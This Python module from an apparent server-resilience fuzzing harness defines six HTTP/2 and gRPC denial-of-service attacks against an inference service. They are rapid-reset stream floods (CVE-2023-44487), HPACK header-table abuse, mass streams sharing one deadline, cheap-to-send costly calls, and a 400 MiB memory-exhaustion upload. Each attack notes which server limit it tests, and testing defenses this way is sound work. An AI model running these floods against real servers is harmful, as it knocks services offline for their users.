"""What a peer may send at once that takes long to deal with: other connections are not to wait until all of it is."""

from __future__ import annotations

import struct
from functools import cache
from typing import ClassVar, Final

from fuzz.attacks.attack import Attack
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import (
    END_HEADERS,
    END_STREAM,
    INFER,
    Code,
    Kind,
    block,
    frame,
    framed,
    greeting,
    header_integer,
    infer_message,
    literal,
    request_block,
)

__all__ = ["BulkThenResets", "DearCalls", "ExpiringCalls", "HugeUpload", "ManyEnds", "ManyFields"]

_STATISTICS: Final = "/inference.GRPCInferenceService/ModelStatistics"
_FRAME: Final = 16_384
#: The newest entries of the peer's header table, as a request: six of them, a byte each.
_REMEMBERED: Final = b"".join(header_integer(index, 7, 0x80) for index in range(67, 61, -1))


def _learned(path: str, *extra: tuple[str, str]) -> bytes:
    """A request's header block that puts all of its fields into the table."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), ("content-type", "application/grpc")]
    return block([*fields, *(extra or [("te", "trailers")]), ("x-last", "1")], 0x40)


class DearCalls(Attack):
    """Calls of 29 bytes each, whose answers take a thousand times as long to make as to ask for."""

    name = "dear-calls"
    summary = "ModelStatistics calls of 29 bytes each, 2,200 at once"
    limit = "a connection's turn ends after 4 ms, and its calls go on in later rounds"
    stops = ()

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + _opening(1, _learned(_STATISTICS)))
        first = 3
        while True:
            calls = b"".join(_opening(stream_id, _REMEMBERED) for stream_id in range(first, first + 4_400, 2))
            await peer.send(calls, 2_200)
            first += 4_400


def _opening(stream_id: int, header_block: bytes) -> bytes:
    """A whole request with an empty message."""
    head = frame(Kind.HEADERS, END_HEADERS, stream_id, header_block)
    return head + frame(Kind.DATA, END_STREAM, stream_id, framed(b""))


class BulkThenResets(Attack):
    """Large frames, so that reads of a MiB are made, and then as many calls as fit one, half of them reset."""

    name = "bulk-then-resets"
    cve = "CVE-2023-44487"
    summary = "8 MB of DATA, so that reads become large, then 12,000 calls at once and resets of 6,000 of them"
    limit = "`--limit resets` (200 beyond one of two calls); a read's resets are dealt with together"
    stops = ()
    connections = 2

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + frame(Kind.HEADERS, END_HEADERS, 1, _learned(INFER)))
        await peer.send(frame(Kind.DATA, 0, 1, struct.pack(">BI", 0, 8_000_000)) + self._bulk())
        await peer.send(frame(Kind.RST_STREAM, 0, 1, struct.pack(">I", Code.CANCEL)))
        await peer.send(self._burst(), 12_000)
        await peer.pause(0.2)

    @staticmethod
    @cache
    def _bulk() -> bytes:
        return frame(Kind.DATA, 0, 1, bytes(_FRAME)) * (8_000_000 // _FRAME)

    @staticmethod
    @cache
    def _burst() -> bytes:
        body = frame(Kind.DATA, END_STREAM, 0, framed(infer_message("shapes", [1, 4], bytes(16), "FP32")))
        cancel = struct.pack(">I", Code.CANCEL)
        streams = range(3, 24_003, 2)
        calls = b"".join(
            frame(Kind.HEADERS, END_HEADERS, stream_id, _REMEMBERED)
            + body[:5]
            + struct.pack(">I", stream_id)
            + body[9:]
            for stream_id in streams
        )
        return calls + b"".join(frame(Kind.RST_STREAM, 0, stream_id, cancel) for stream_id in reversed(streams[::2]))


class ManyEnds(Attack):
    """Connections with as many calls as the server takes, and all of them closed again."""

    name = "many-ends"
    summary = "5 connections with 20,000 open calls each, closed as soon as all calls are begun"
    limit = "the calls of a connection that has ended are ended a few at a time"
    stops = ()
    connections = 5

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + frame(Kind.HEADERS, END_HEADERS, 1, _learned(INFER)))
        await peer.send(self._calls(), 20_000)
        await peer.pause(0.1)
        peer.end_by_reset()

    @staticmethod
    @cache
    def _calls() -> bytes:
        return b"".join(frame(Kind.HEADERS, END_HEADERS, stream_id, _REMEMBERED) for stream_id in range(3, 40_003, 2))


class ExpiringCalls(Attack):
    """Calls that wait for the rest of their request, and have the same deadline."""

    name = "expiring-calls"
    summary = "20,000 calls per connection whose deadline is the same moment"
    limit = "calls whose deadline has passed are failed a few hundred at a time"
    stops = ("grpc-status 4",)
    connections = 2
    _streams: ClassVar = 20_000

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + frame(Kind.HEADERS, END_HEADERS, 1, _learned(INFER, ("grpc-timeout", "100m"))))
        first = 3
        while True:
            last = first + 2 * self._streams
            calls = [frame(Kind.HEADERS, END_HEADERS, stream_id, _REMEMBERED) for stream_id in range(first, last, 2)]
            await peer.send(b"".join(calls), self._streams)
            while peer.answered < last // 2:
                await peer.wait_answer()
            first = last


class ManyFields(Attack):
    """Header blocks of references to one small field, each block another."""

    name = "many-fields"
    summary = "requests with 480 header fields of a byte each, no two of them alike"
    limit = "decoded header list of 16 KiB; fields that are alike are judged once; a turn ends after 4 ms"
    stops = ("grpc-status", "HTTP")

    async def strike(self, peer: Peer) -> None:
        learned = request_block("/nowhere") + literal("a", "", 0x40)
        await peer.send(greeting() + frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, learned))
        fields = header_integer(62, 7, 0x80) * 450
        first = 3
        while True:
            requests = [
                frame(
                    Kind.HEADERS,
                    END_HEADERS | END_STREAM,
                    stream_id,
                    request_block("/nowhere") + fields + literal("n", str(stream_id)),
                )
                for stream_id in range(first, first + 200, 2)
            ]
            await peer.send(b"".join(requests), 100)
            first += 200


class HugeUpload(Attack):
    """A message that the server may take, and has no memory for."""

    name = "huge-upload"
    summary = "a message of 400 MiB, to a server that has 250 MiB of address space left"
    limit = "what is raised while a connection is read ends that connection"
    stops = ("GOAWAY ENHANCE_YOUR_CALM", "grpc-status 8")
    connections = 1
    spare_mib = 250

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + frame(Kind.HEADERS, END_HEADERS, 1, request_block()))
        size = 400 * 2**20
        await peer.send(frame(Kind.DATA, 0, 1, struct.pack(">BI", 0, size)))
        piece = frame(Kind.DATA, 0, 1, bytes(_FRAME)) * 16
        for _ in range(size // (16 * _FRAME)):
            await peer.send(piece, 1)
        await peer.wait_over()
